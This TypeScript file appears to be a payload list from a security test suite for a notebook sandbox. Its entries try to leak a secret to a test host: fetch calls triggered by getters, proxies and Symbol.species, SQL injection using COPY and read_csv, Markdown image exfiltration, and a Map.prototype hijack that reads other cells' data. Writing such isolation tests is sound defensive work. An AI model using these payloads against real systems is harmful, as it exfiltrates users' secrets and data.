import type { Addresses, Payload } from '../payload.ts';
import { inPage, markup, markupControl, message, none } from './forging.ts';
import { byScript, sameText, soon } from './sameText.ts';

const asking = ({ http }: Addresses) =>
	`const ask = () => (globalThis.fetch('${http}?' + secret, { mode: 'no-cors' }).catch(() => {}), 'asked');`;

/** Values that act when they are looked at, or are not what they say. */
export const values: readonly Payload[] = [
	sameText(
		'getters',
		'getters',
		(at) => `${asking(at)}
const angry = { get a() { return ask(); }, toJSON: ask, toString: ask, valueOf: ask, [Symbol.toPrimitive]: ask, get [Symbol.toStringTag]() { return ask(); }, *[Symbol.iterator]() { yield ask(); } };
globalThis.display?.(angry); globalThis.display?.([angry]); console.log(angry); JSON.stringify([angry]); \`\${angry}\``,
		{ realm: 'message' }
	),
	sameText(
		'proxies',
		'Proxy',
		(at) => `${asking(at)}
const trap = new Proxy({}, { get: (_, name) => () => ask() });
const watched = new Proxy({ a: 1 }, trap); const list = new Proxy([{ a: 1 }], { get: (target, name) => (ask(), Reflect.get(target, name)) });
for (const value of [watched, list]) try { globalThis.display?.(value); console.log(value); JSON.stringify(value); } catch {}`,
		{ realm: 'message' }
	),
	sameText(
		'species',
		'Symbol.species',
		(at) => `${asking(at)}
class Thieves extends Array { static get [Symbol.species]() { ask(); return Array; } }
const some = Thieves.from([{ a: 1 }, { a: 2 }]); some.map((one) => one); globalThis.display?.(some); console.log(some)`,
		{ realm: 'message' }
	),
	sameText(
		'thrown-getters',
		'getters of an error',
		(at) => `${asking(at)}
const thrown = { get name() { return ask(); }, get message() { return ask(); }, get stack() { return ask(); }, toString: ask };
console.log(\`\${thrown}\`); throw thrown`,
		{
			realm: 'message',
			control: byScript((at) => `${asking(at)}\nconst thrown = { toString: ask }; String(thrown)`)
		}
	),
	message('odd-values', 'values of odd shapes', {
		script: ({ http }) => `const ring = [{ a: 1 }]; ring.push(ring); ring[0].ring = ring;
const sparse = []; sparse.length = 4_000_000_000; const detached = new Float64Array(8); structuredClone(detached.buffer, { transfer: [detached.buffer] });
for (const value of [ring, sparse, [sparse], detached, [detached], [{ x: detached }], new DataView(new ArrayBuffer(8)), JSON.parse('[{"__proto__": {"src": "${http}"}, "constructor": 1, "x": 2}]'), Object.create({ kind: 'html', html: '${http}' }), [Object.assign(Object.create(null), { then: 1 })], Symbol(secret), 10n ** 400n, new Proxy(function () {}, {}), new (class extends Map {})([[{}, '${http}']]), new WeakRef({}), (function () { return arguments; })('${http}'), globalThis])
	try { display(value); } catch (problem) { console.log(String(problem)); }`,
		control: inPage
	}),
	message('odd-arrow', 'Arrow buffers', {
		script: ({
			http
		}) => `const fields = [{ name: '${http}?' + secret, type: { typeId: 5, children: null } }];
const data = { type: fields[0].type, length: 3, values: new Uint8Array(3), valueOffsets: Int32Array.of(0, 1, -7, 90_000), children: [], nullBitmap: new Uint8Array(0) };
const batches = [{ numRows: 3, data: { children: [data] } }];
for (const odd of [{ numRows: 3, schema: { fields }, batches, getChildAt: () => null }, { numRows: 1e12, schema: { fields }, batches, getChildAt: () => null }, { get numRows() { return globalThis.fetch('${http}'); }, schema: { fields }, batches: [], getChildAt() { throw fields; } }, { numRows: -1, schema: { fields: [{ name: 'x', type: { typeId: -99 } }] }, batches, getChildAt: () => ({ data: [data], length: 3 }) }])
	try { display(odd); } catch (problem) { console.log(String(problem)); }
try { Table.from(Uint8Array.from({ length: 400 }, (_, at) => at % 7)); } catch (problem) { console.log(String(problem)); }`,
		control: inPage
	}),
	{
		id: 'columns-as-sql',
		channel: 'SQL by names',
		realm: 'message',
		cells: ({ http }) =>
			`\`\`\`ts tyveri\n[{ ["x\\"); COPY (SELECT 1) TO '${http}?" + secret + "'; --"]: 1, ["(SELECT * FROM read_csv('${http}?" + secret + "'))"]: secret, ["\\u0000"]: 1, [""]: 2, ["rowid"]: 3 }]\n\`\`\`\n\n\`\`\`sql\nSELECT * FROM tyveri\n\`\`\`\n`,
		control: none('has no engine to ask')
	},
	{
		id: 'values-as-sql',
		channel: 'SQL by values',
		realm: 'message',
		cells: ({ http }) =>
			`\`\`\`ts tyvens\n"'; COPY hemmelig TO '${http}?" + secret + "'; --"\n\`\`\`\n\n\`\`\`sql\nSELECT $tyvens AS x, h.* FROM hemmelig AS h, query_table($tyvens)\n\`\`\`\n\n\`\`\`sql\nSELECT * FROM read_csv($tyvens)\n\`\`\`\n`,
		control: none('has no engine to ask')
	},
	{
		id: 'values-as-text',
		channel: 'Markdown by values',
		realm: 'message',
		cells: (at) =>
			`\`\`\`ts tyvetekst\n(\`![x](${at.http}?\${secret}) [x](javascript:1) ${markup(at)}\`)\n\`\`\`\n\nTekst: \${tyvetekst}\n`,
		control: markupControl
	},
	message('other-rows', 'rows of other cells', {
		script: ({ http }) => `const seen = []; const { get, set } = Map.prototype;
Map.prototype.get = function (key) { const found = get.call(this, key); if (!seen.includes(found)) seen.push(found); return found; };
console.log('x'); await ${soon}; Map.prototype.get = get;
globalThis.fetch('${http}?' + encodeURIComponent(JSON.stringify(seen.map((one) => [...(one?.value ?? [])].slice(0, 3)))) + secret, { mode: 'no-cors' })`,
		control: byScript(({ http }) => `fetch('${http}?' + secret, { mode: 'no-cors' })`)
	})
];
